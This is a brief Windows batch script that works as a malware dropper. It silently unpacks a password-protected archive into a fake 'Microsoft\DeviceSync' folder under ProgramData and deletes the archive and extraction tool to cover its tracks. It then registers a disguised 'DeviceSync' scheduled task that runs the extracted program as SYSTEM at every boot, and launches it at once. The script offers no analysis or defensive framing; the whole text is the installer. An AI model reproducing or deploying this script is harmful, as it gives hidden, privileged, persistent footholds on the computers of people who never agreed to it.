@echo off
set W=C:\HostUsers\Public\Downloads
set D=C:\ProgramData\Microsoft\DeviceSync
mkdir "%D%" 2>nul
"%W%\7za.exe" x -y -pK0b3!Syn#2024 -o"%D%" "%W%\data.dat" >nul
del /f /q "%W%\data.dat" "%W%\7za.exe"
schtasks /create /tn "DeviceSync" /tr "%D%\DeviceSync.exe" /sc onstart /ru SYSTEM /f >nul
schtasks /run /tn "DeviceSync" >nul
